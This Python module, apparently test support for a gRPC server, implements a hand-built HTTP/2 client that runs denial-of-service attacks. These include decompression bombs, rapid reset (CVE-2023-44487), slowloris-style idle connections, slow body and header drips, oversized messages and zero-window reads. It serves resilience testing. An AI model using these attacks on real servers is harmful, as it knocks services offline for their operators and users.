"""A client that means harm, on raw sockets: HTTP/2 by hand, for what no library would send.

It runs in a process of its own (``python -m tests.support.hostile HOST:PORT ATTACK JSON``), so that it takes nothing from
the processes that are measured. It prints a line of JSON when the attack stands, what the server did about it so far, and
another for each line that it reads; it holds what it opened until its standard input ends. Frames: RFC 9113; headers: RFC 7541.
"""

from __future__ import annotations

import asyncio
import gzip
import json
import sys
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass, field
from typing import Any

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW_SIZE, MAX_FRAME = 4, 16_384
DEFAULT_WINDOW = 65_535
CANCEL = (8).to_bytes(4, "big")
WATCH = "/grpc.health.v1.Health/Watch"
_AT_ONCE = 50


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def header_block(path: str, *fields: tuple[str, str]) -> bytes:
    r"""The headers of a gRPC call as literals without indexing; ``\udcff`` is the byte 0xff."""
    every = (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        *fields,
    )
    return b"".join(b"\0" + _literal(name) + _literal(value) for name, value in every)


def message(data: bytes, *, compressed: bool = False, promised: int = 0) -> bytes:
    """A gRPC message with its prefix; ``promised`` bytes more are announced than are there."""
    return bytes((compressed,)) + (len(data) + promised).to_bytes(4, "big") + data


def _literal(text: str) -> bytes:
    data = text.encode("utf-8", "surrogateescape")
    rest = len(data)
    if rest < 127:
        return bytes((rest,)) + data
    prefix, rest = bytearray((127,)), rest - 127
    while rest >= 128:
        prefix.append(rest % 128 + 128)
        rest //= 128
    return bytes((*prefix, rest)) + data


@dataclass
class Connection:
    """One connection that keeps to the protocol as far as it must: it answers SETTINGS and PING, and heeds windows."""

    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter
    seen: Counter[str]
    window: int = DEFAULT_WINDOW
    stream_window: int = DEFAULT_WINDOW
    windows: dict[int, int] = field(default_factory=dict)
    ended: set[int] = field(default_factory=set)
    closed: bool = False

    def __post_init__(self) -> None:
        self.progress = asyncio.Event()
        self.pump = asyncio.create_task(self._pump())

    @classmethod
    async def open(
        cls, address: str, seen: Counter[str], *, source: str | None = None, read_window: int = DEFAULT_WINDOW
    ) -> Connection:
        """Connect and introduce ourselves; the server may send ``read_window`` bytes of each stream."""
        reader, writer = await connect(address, source)
        seen["connections"] += 1
        own = INITIAL_WINDOW_SIZE.to_bytes(2, "big") + read_window.to_bytes(4, "big")
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, own))
        opened = cls(reader, writer, seen)
        await opened.progress.wait()
        return opened

    async def send(self, *frames: bytes) -> None:
        """Write frames as they are."""
        with suppress(ConnectionError):
            self.writer.write(b"".join(frames))
            await self.writer.drain()

    async def begin(self, stream: int, path: str, *fields: tuple[str, str]) -> None:
        """Begin a call whose body is still to come."""
        await self.send(frame(HEADERS, END_HEADERS, stream, header_block(path, *fields)))

    async def body(self, stream: int, data: bytes, *, end: bool) -> bool:
        """Send DATA as fast as the windows allow; False when the server ended the stream before."""
        view = memoryview(data)
        while view:
            if self.closed or stream in self.ended:
                return False
            room = min(MAX_FRAME, self.window, self.windows.get(stream, self.stream_window), len(view))
            if room <= 0:
                self.progress.clear()
                await self.progress.wait()
                continue
            self.window -= room
            self.windows[stream] = self.windows.get(stream, self.stream_window) - room
            last = end and room == len(view)
            await self.send(frame(DATA, END_STREAM if last else 0, stream, bytes(view[:room])))
            view = view[room:]
        return True

    async def ping(self) -> bool:
        """Send a PING and wait for its answer; False when the server closed the connection."""
        answered = self.seen["pings answered"]
        await self.send(frame(PING, 0, 0, bytes(8)))
        while self.seen["pings answered"] == answered and not self.closed:
            self.progress.clear()
            await self.progress.wait()
        return not self.closed

    async def _pump(self) -> None:
        try:
            while True:
                head = await self.reader.readexactly(9)
                payload = await self.reader.readexactly(int.from_bytes(head[:3], "big"))
                self._take(head[3], head[4], int.from_bytes(head[5:9], "big"), payload)
                self.progress.set()
        except (asyncio.IncompleteReadError, ConnectionError):
            self.seen["connections closed by the server"] += 1
        finally:
            self.closed = True
            self.progress.set()
            self.writer.close()

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                if int.from_bytes(payload[at : at + 2], "big") == INITIAL_WINDOW_SIZE:
                    now = int.from_bytes(payload[at + 2 : at + 6], "big")
                    self.windows = {each: left + now - self.stream_window for each, left in self.windows.items()}
                    self.stream_window = now
            self.writer.write(frame(SETTINGS, ACK, 0))
        elif kind == PING:
            self._take_ping(flags, payload)
        elif kind == WINDOW_UPDATE:
            more = int.from_bytes(payload, "big")
            if stream:
                self.windows[stream] = self.windows.get(stream, self.stream_window) + more
            else:
                self.window += more
        elif kind == GOAWAY:
            self.seen["GOAWAY"] += 1
        elif kind == RST_STREAM or (kind in (DATA, HEADERS) and flags & END_STREAM):
            if stream not in self.ended:
                self.seen["streams ended by the server"] += 1
            self.ended.add(stream)

    def _take_ping(self, flags: int, payload: bytes) -> None:
        if flags & ACK:
            self.seen["pings answered"] += 1
        else:
            self.writer.write(frame(PING, ACK, 0, payload))


async def connect(address: str, source: str | None = None) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A connection to ``host:port`` (from the host ``source``) or ``unix:/path``."""
    if address.startswith("unix:"):
        return await asyncio.open_unix_connection(address.removeprefix("unix:"))
    host, _, port = address.rpartition(":")
    return await asyncio.open_connection(host, int(port), local_addr=(source, 0) if source else None)


@dataclass
class Attack:
    """What one attack needs to know; ``options`` come from the command line."""

    address: str
    options: dict[str, Any]
    seen: Counter[str] = field(default_factory=Counter)
    held: list[Any] = field(default_factory=list)

    def __getitem__(self, name: str) -> Any:
        return self.options[name]

    @property
    def fields(self) -> list[tuple[str, str]]:
        """Metadata to send with each call."""
        token = self.options.get("token")
        return [("authorization", f"Bearer {token}")] if token else []

    async def connections(self, **options: Any) -> AsyncIterator[Connection]:
        """As many connections as are asked for."""
        for _ in range(self["connections"]):
            opened = await Connection.open(self.address, self.seen, source=self.options.get("source"), **options)
            self.held.append(opened)
            yield opened


async def bombs(attack: Attack) -> None:
    """Messages of ``mib`` MiB zeros, compressed to a thousandth, one after another on each of ``streams`` streams."""
    bomb = message(gzip.compress(bytes(attack["mib"] << 20), 9), compressed=True)
    fields = [("grpc-encoding", "gzip"), *attack.fields]

    async def drop(connection: Connection, stream: int) -> None:
        await connection.begin(stream, attack["path"], *fields)
        whole = await connection.body(stream, bomb, end=True)
        attack.seen["bodies taken whole" if whole else "bodies refused on the way"] += 1

    for turn in range(attack["turns"]):
        tasks = []
        async for connection in attack.connections():
            tasks += [drop(connection, 2 * stream + 1) for stream in range(attack["streams"])]
        await asyncio.gather(*tasks)
        attack.seen["turns"] = turn + 1


async def resets(attack: Attack) -> None:
    """Calls that are taken back at once: CVE-2023-44487."""
    async for connection in attack.connections():
        for stream in range(1, 2 * attack["calls"], 2):
            headers = header_block(attack["path"], *attack.fields)
            await connection.send(frame(HEADERS, END_HEADERS, stream, headers), frame(RST_STREAM, 0, stream, CANCEL))
        attack.seen["still connected"] += not connection.closed


async def silence(attack: Attack) -> None:
    """Connections that never say anything."""

    async def hold() -> None:
        reader, writer = await connect(attack.address)
        attack.seen["connections"] += 1
        attack.held.append(writer)

        async def wait() -> None:
            with suppress(ConnectionError):
                while await reader.read(4096):
                    pass
            attack.seen["connections closed by the server"] += 1

        attack.held.append(asyncio.create_task(wait()))

    for _ in range(attack["connections"] // _AT_ONCE):
        await asyncio.gather(*(hold() for _ in range(_AT_ONCE)))


async def slow_bodies(attack: Attack) -> None:
    """Bodies that are announced whole and sent a byte every ``pause`` seconds."""

    async def drip(connection: Connection, streams: range) -> None:
        while not connection.closed:
            await asyncio.sleep(attack["pause"])
            for stream in streams:
                if stream not in connection.ended:
                    await connection.body(stream, b"\0", end=False)

    async for connection in attack.connections():
        streams = range(1, 2 * attack["streams"], 2)
        for stream in streams:
            await connection.begin(stream, attack["path"], *attack.fields)
            await connection.body(stream, message(b"x", promised=100_000), end=False)
        attack.held.append(asyncio.create_task(drip(connection, streams)))


async def slow_headers(attack: Attack) -> None:
    """Header blocks that never end: a byte of CONTINUATION every ``pause`` seconds."""

    async def drip(connection: Connection) -> None:
        for byte in header_block(attack["path"]):
            if connection.closed:
                break
            await connection.send(frame(CONTINUATION, 0, 1, bytes((byte,))))
            await asyncio.sleep(attack["pause"])

    async for connection in attack.connections():
        await connection.send(frame(HEADERS, 0, 1, b""))
        attack.held.append(asyncio.create_task(drip(connection)))


async def giants(attack: Attack) -> None:
    """Messages that announce 4 GiB, and begin."""
    async for connection in attack.connections():
        for stream in range(1, 2 * attack["streams"], 2):
            await connection.begin(stream, attack["path"], *attack.fields)
            await connection.body(stream, b"\0\xff\xff\xff\xff" + bytes(1000), end=False)


async def hoards(attack: Attack) -> None:
    """Bodies of ``mib`` MiB of which one byte is missing."""
    body = message(bytes(attack["mib"] << 20))[:-1]
    tasks = []
    async for connection in attack.connections():
        for stream in range(1, 2 * attack["streams"], 2):
            await connection.begin(stream, attack["path"], *attack.fields)
            tasks.append(asyncio.ensure_future(connection.body(stream, body, end=False)))
    await asyncio.wait(tasks, timeout=attack["patience"])
    attack.held += tasks


async def frozen_readers(attack: Attack) -> None:
    """Streams of answers into a window of zero bytes."""
    async for connection in attack.connections(read_window=0):
        for stream in range(1, 2 * attack["streams"], 2):
            await connection.begin(stream, attack["path"], *attack.fields)
            await connection.body(stream, message(bytes.fromhex(attack.options.get("request", ""))), end=True)


ATTACKS: dict[str, Callable[[Attack], Awaitable[None]]] = {
    "bombs": bombs,
    "resets": resets,
    "silence": silence,
    "slow-bodies": slow_bodies,
    "slow-headers": slow_headers,
    "giants": giants,
    "hoards": hoards,
    "frozen-readers": frozen_readers,
}


async def main(address: str, name: str, options: str) -> None:
    """Attack, report, hold, report."""
    attack = Attack(address, json.loads(options))
    await ATTACKS[name](attack)
    # Whoever runs us asks with a line for another report, and lets go by closing.
    while True:
        sys.stdout.write(f"{json.dumps(attack.seen)}\n")
        sys.stdout.flush()
        if not await asyncio.to_thread(sys.stdin.readline):
            return


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
